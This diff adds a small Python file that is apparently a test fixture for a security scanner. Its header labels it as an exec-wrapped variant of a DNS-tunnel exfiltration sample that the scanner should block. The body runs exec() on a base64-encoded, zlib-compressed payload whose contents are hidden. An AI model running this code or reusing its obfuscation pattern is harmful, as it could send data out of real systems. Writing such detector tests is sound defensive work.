@@ -1,0 +1,3 @@
+# expect: BLOCKED category: exfiltration variant-of: risky/exfiltration/dns_tunnel.py technique: exec-wrapped
+import base64, zlib
+exec(zlib.decompress(base64.b64decode('eJxFjkFrhDAQhe/+isFeIpWwpx4WelhcTy0tNIVSSpFsHDUYM5JkF6X0vzei0jkMb5h537w7eEbZe5DgUTkMgPamHdkBbYCbdFpeDELoHF3bDs4vAgxRfx09T/Qwkgtw0VZ6pfU+k9+VJ9VjSJKN/BhXfMPzFgNLTx+iEmXxVr5Xp6Iohaieys80hzTNErSKaqyja3/AO5yMbma28vh6wbKM17iqpCEHGrQFJ22L7JCDQcs2VJbDwyE7JhAruHkVS605l0gd+XCZrRyQNenP5vvSRw330fv9yyeOU6NN7HIYDXJFQ8y6QHBSOAZ4FaVz5P7ho/T+D8h4dL4=')))
